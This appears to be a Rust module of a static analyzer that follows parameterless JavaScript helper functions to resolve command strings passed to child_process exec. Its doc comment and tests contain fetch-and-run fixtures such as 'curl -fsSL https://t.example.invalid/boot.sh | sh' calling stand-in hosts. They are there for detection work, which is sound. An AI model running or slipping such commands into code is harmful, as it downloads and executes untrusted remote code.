//! A call to a module's own helper stands for what the helper returns, in JavaScript as in Python (see
//! `python_returns.rs`): `exec(fetchCommand())` where `function fetchCommand() { return ['curl', '-fsSL',
//! url(), '|', 'sh'].join(' '); }` runs that command line.
//!
//! Only the plainest helpers are followed: a top-level `function name() { … }` or `const name = () => …`
//! with no parameters, defined once and never reassigned, whose body is straight-line code (`const`/`let`/
//! `var` declarations of plain names, then `return <expression>`) or an arrow's expression. Anything else
//! leaves the call unknown. Helpers calling helpers nest to [`MAX_HELPER_DEPTH`]; every expression still
//! takes a step of the segment's budget.

use super::values::Value;
use super::Walker;
use std::collections::HashMap;
use tree_sitter::Node;

/// Helpers followed inside a helper's return expression (a cycle of helpers stops here).
const MAX_HELPER_DEPTH: usize = 4;
/// Statements of a helper's body read before giving up.
const MAX_HELPER_STATEMENTS: usize = 32;
/// Helpers remembered per segment.
const MAX_HELPERS: usize = 1024;

/// The module's parameterless functions by name (the function node); `None` for a name defined or
/// assigned more than once.
#[derive(Default)]
pub(super) struct Helpers<'t> {
    functions: HashMap<String, Option<Node<'t>>>,
    depth: usize,
}

impl<'t> Helpers<'t> {
    /// Records `function` (a declaration, arrow or function expression) under `name`.
    pub(super) fn define(&mut self, name: &str, function: Node<'t>) {
        if let Some(seen) = self.functions.get_mut(name) {
            *seen = None;
            return;
        }
        if self.functions.len() >= MAX_HELPERS {
            return;
        }
        let parameterless = function
            .child_by_field_name("parameters")
            .is_some_and(|p| p.named_child_count() == 0);
        self.functions.insert(
            name.to_string(),
            (parameterless && is_top_level(function)).then_some(function),
        );
    }

    /// Whether a call of `name` is a helper's return value.
    pub(super) fn follows(&self, name: &str) -> bool {
        self.functions.get(name).is_some_and(Option::is_some)
    }

    /// `name` was assigned: a call through it is no longer the helper.
    pub(super) fn forget(&mut self, name: &str) {
        if let Some(seen) = self.functions.get_mut(name) {
            *seen = None;
        }
    }
}

/// Whether a function is declared at the top of the module (not a method or a nested closure).
fn is_top_level(function: Node) -> bool {
    let mut at = function.parent();
    while let Some(parent) = at {
        match parent.kind() {
            "program" => return true,
            "statement_block" | "class_body" | "arguments" | "object" => return false,
            _ => at = parent.parent(),
        }
    }
    false
}

impl<'t> Walker<'t, '_> {
    /// What calling `function` with `arguments` returns, when it names a plain helper of the module.
    pub(super) fn helper_return(
        &mut self,
        function: Node<'t>,
        arguments: Node<'t>,
        depth: usize,
    ) -> Option<Value> {
        if function.kind() != "identifier" || arguments.named_child_count() != 0 {
            return None;
        }
        let name = self.src(function);
        if self.env.get(name).is_some() || self.helpers.depth >= MAX_HELPER_DEPTH {
            return None;
        }
        let helper = (*self.helpers.functions.get(name)?)?;
        let body = helper.child_by_field_name("body")?;
        self.helpers.depth += 1;
        let saved = self.env.module_only();
        self.env.push();
        let value = if body.kind() == "statement_block" {
            self.straight_line_return(body, depth)
        } else {
            // `() => expression`
            self.eval(body, depth + 1)
        };
        self.env.restore(saved);
        self.helpers.depth -= 1;
        value
    }

    fn straight_line_return(&mut self, body: Node<'t>, depth: usize) -> Option<Value> {
        let mut cursor = body.walk();
        let statements: Vec<Node<'t>> = body.named_children(&mut cursor).collect();
        for statement in statements.into_iter().take(MAX_HELPER_STATEMENTS) {
            match statement.kind() {
                "comment" | "empty_statement" => {}
                "return_statement" => return self.eval(statement.named_child(0)?, depth + 1),
                "lexical_declaration" | "variable_declaration" => {
                    let mut cursor = statement.walk();
                    let declarators: Vec<Node<'t>> =
                        statement.named_children(&mut cursor).collect();
                    for declarator in declarators {
                        let name = declarator.child_by_field_name("name")?;
                        if name.kind() != "identifier" {
                            return None;
                        }
                        let value = declarator
                            .child_by_field_name("value")
                            .and_then(|v| self.eval(v, depth + 1));
                        let name = self.src(name);
                        self.env.set(name, value);
                    }
                }
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn a_command_returned_by_helpers_is_read_at_the_call() {
        let found = javascript(concat!(
            "const { exec } = require('child_process');\n",
            "const HOST = 'https://t.example.invalid';\n",
            "function bootUrl() { return HOST + '/boot.sh'; }\n",
            "const command = () => ['curl', '-fsSL', bootUrl(), '|', 'sh'].join(' ');\n",
            "function go() { exec(command(), () => {}); }\n",
            "go();\n",
        ));
        assert!(
            found
                .iter()
                .any(|r| r.contains("\"curl -fsSL https://t.example.invalid/boot.sh | sh\"")),
            "{found:?}"
        );
    }

    #[test]
    fn helpers_with_parameters_branches_nesting_or_reassignment_stay_unknown() {
        for text in [
            "const cp = require('child_process');\nfunction cmd(x) { return 'curl ' + x + ' | sh'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction cmd() { if (a) { return 'curl -s https://a.invalid | sh'; } return 'ls'; }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nlet cmd = () => 'curl -s https://a.invalid | sh';\ncmd = load();\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nclass A { cmd() { return 'curl -s https://a.invalid | sh'; } }\ncp.exec(cmd());\n",
            "const cp = require('child_process');\nfunction a() { return b() + 'x'; }\nfunction b() { return a() + 'y'; }\ncp.exec(a());\n",
        ] {
            let found = javascript(text);
            assert!(!found.iter().any(|r| r.contains("curl")), "{text}: {found:?}");
        }
    }
}
